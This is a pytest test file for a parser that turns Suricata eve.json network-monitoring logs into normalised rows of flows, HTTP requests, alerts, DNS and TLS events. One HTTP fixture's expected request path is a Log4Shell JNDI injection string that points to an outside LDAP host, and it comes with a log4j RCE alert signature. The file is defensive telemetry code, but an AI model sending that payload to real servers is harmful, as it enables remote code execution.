"""Suricata's eve.json."""

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml

from vedette.model.addresses import canonical
from vedette.telemetry.suricata_eve import SuricataEve

SAMPLE = (Path(__file__).parent / "samples/suricata_eve.log").read_text().splitlines()
FLOW, HTTP, ALERT, DNS, TLS, STATS = SAMPLE


@pytest.fixture
def one(read_row):
    return lambda line: read_row(SuricataEve(), line)


def changed(line, **fields):
    return json.dumps(json.loads(line) | fields)


def test_a_flow_has_bytes_each_way_and_how_it_went(one):
    assert one(FLOW) == {
        "time": datetime(2024, 1, 15, 10, 23, 40, tzinfo=UTC),
        "client_ip": "203.0.113.7",
        "client_port": 54321,
        "server_ip": "192.0.2.1",
        "server_port": 80,
        "transport": "tcp",
        "protocol": "http",
        "state": "SF",
        "bytes_in": 700,
        "bytes_out": 4200,
        "duration": 5.0,
        "uid": "1001",
    }


@pytest.mark.parametrize(
    ("state", "answers", "expected"),
    [("new", 0, "S0"), ("new", 2, "S1"), ("established", 2, "S1"), ("x", 2, None)],
)
def test_states_are_zeeks(one, state, answers, expected):
    flow = json.loads(FLOW)["flow"] | {"state": state, "pkts_toclient": answers}
    assert one(changed(FLOW, flow=flow)).get("state") == expected


def test_a_request_is_told_with_its_claims(one):
    row = one(HTTP)
    assert (row["method"], row["host"], row["status"], row["bytes_out"]) == ("GET", "shop.example", 200, 3900)
    assert (row["path"], row["user_agent"]) == ("/?x=${jndi:ldap://198.51.100.9/a}", "curl/8.0")
    assert (row["forwarded"], row["response_headers"]) == ("198.51.100.1", "Content-Type: text/html")
    assert row["time"] == datetime(2024, 1, 15, 10, 23, 40, 200000, tzinfo=UTC)


def test_the_client_of_an_alert_is_who_began_the_flow(one):
    row = one(ALERT)
    assert (row["client_ip"], row["client_port"], row["server_ip"], row["server_port"]) == (
        "203.0.113.7",
        54321,
        "192.0.2.1",
        80,
    )
    assert row["notice"] == "1:2034647:1"
    assert row["message"] == (
        "ET EXPLOIT Apache log4j RCE Attempt [Classification: Attempted Administrator Privilege Gain] "
        "[Priority: 1] [CVE-2021-44228]"
    )
    assert {"bytes_in", "bytes_out", "event"}.isdisjoint(row)


@pytest.mark.parametrize(
    ("direction", "client"), [("to_client", "203.0.113.7"), ("to_server", "192.0.2.1"), (None, "192.0.2.1")]
)
def test_in_older_alerts_the_direction_tells_else_the_packet(one, direction, client):
    assert one(changed(ALERT, flow={"pkts_toserver": 1}, direction=direction))["client_ip"] == client


@pytest.mark.parametrize(
    "fields",
    [
        {"alert": {"action": "blocked", "signature": "s"}},
        {"event_type": "drop"},
        {"verdict": {"action": "drop"}},
    ],
)
def test_what_was_dropped_is_an_event(one, fields):
    assert one(changed(ALERT, **fields))["event"] == "dropped"


@pytest.mark.parametrize(
    "dns",
    [
        {"version": 3, "queries": [{"rrname": "evil.example", "rrtype": "A"}]},
        {"version": 2, "rrname": "evil.example"},
    ],
)
def test_the_name_that_is_asked_for_is_the_host(one, dns):
    row = one(changed(DNS, dns=dns))
    assert (row["protocol"], row["transport"], row["host"]) == ("dns", "udp", "evil.example")
    assert one(TLS)["host"] == "shop.example"
    assert one(TLS)["client_ip"] == "2001:db8::7"


def test_ports_of_other_transports_mean_nothing(one):
    row = one(changed(FLOW, proto="ICMP", src_port=0, dest_port=0))
    assert row["transport"] == "icmp"
    assert {"client_port", "server_port", "state"}.isdisjoint(row)


def test_a_file_names_no_client_and_statistics_none(read_lines):
    _, account = read_lines(SuricataEve(), changed(HTTP, event_type="fileinfo") + "\n" + STATS)
    assert (account.ignored, account.rejected) == (2, 0)


def test_half_a_flow_has_the_bytes_of_its_source(one):
    row = one(changed(FLOW, event_type="netflow", flow=None, netflow={"bytes": 700, "pkts": 5}))
    assert (row["bytes_in"], row.get("bytes_out"), row.get("state")) == (700, None, None)


def test_fields_of_other_types_never_fail_a_line(one):
    row = one(changed(HTTP, http="x", flow=[1], alert=None, src_port="54321", flow_id={"a": 1}))
    assert (row["client_ip"], row["client_port"]) == ("203.0.113.7", 54321)
    assert "path" not in row


COLUMNS = {
    "src_ip": "client_ip",
    "src_port": "client_port",
    "dest_ip": "server_ip",
    "dest_port": "server_port",
    "http.url": "path",
    "http.http_method": "method",
    "http.hostname": "host",
    "http.status": "status",
    "http.http_user_agent": "user_agent",
    "http.length": "bytes_out",
    "tls.sni": "host",
    "ssh.client.software_version": "body",
    "smtp.mail_from": "user",
    "flow.bytes_toserver": "bytes_in",
}
"""Where we keep what Suricata's own tests ask of events."""


def events(path):
    """The events that a test of Suricata's waits for, by what it asks of them."""
    for check in yaml.safe_load(path.read_text()).get("checks") or []:
        match = (check.get("filter") or {}).get("match") or {}
        if "event_type" not in match:
            continue
        event = {
            "timestamp": "2024-01-15T10:23:45.000000+0000",
            "src_ip": "203.0.113.7",
            "flow_id": 1,
            "proto": "TCP",
        }
        for name, value in match.items():
            *parents, leaf = name.split(".")
            inside = event
            for parent in parents:
                inside = inside.setdefault(parent, {})
                if not isinstance(inside, dict):
                    break
            else:
                inside[leaf] = value
        yield match, event


@pytest.mark.conformance
def test_what_suricatas_own_tests_ask_of_events_is_read(shared_data, read_lines):
    compared = 0
    for path in sorted((shared_data / "telemetry/suricata_verify").glob("*/test.yaml")):
        for match, event in events(path):
            line = json.dumps(event)
            assert SuricataEve().sniff(line.encode(), "x") == 1
            frame, account = read_lines(SuricataEve(), line)
            assert account.rejected == 0
            if match["event_type"] == "fileinfo":
                assert account.ignored == 1
                continue
            (row,) = frame.rows(named=True)
            turned = match.get("direction") == "to_client" or "flow.src_ip" in match
            for name, column in COLUMNS.items():
                asked = match.get(name)
                if asked is None or asked == "" or (turned and "_" in name and "." not in name):
                    continue
                if column.endswith("_port") and str(match.get("proto", "TCP")).lower() not in (
                    "tcp",
                    "udp",
                    "sctp",
                ):
                    continue
                if name.startswith("flow.") and match["event_type"] != "flow":
                    continue
                assert str(row[column]) == (canonical(str(asked)) or str(asked)), (path, name)
                compared += 1
            if "alert.signature_id" in match:
                assert f":{match['alert.signature_id']}:" in f":{row['notice']}:"
                compared += 1
    assert compared == 244
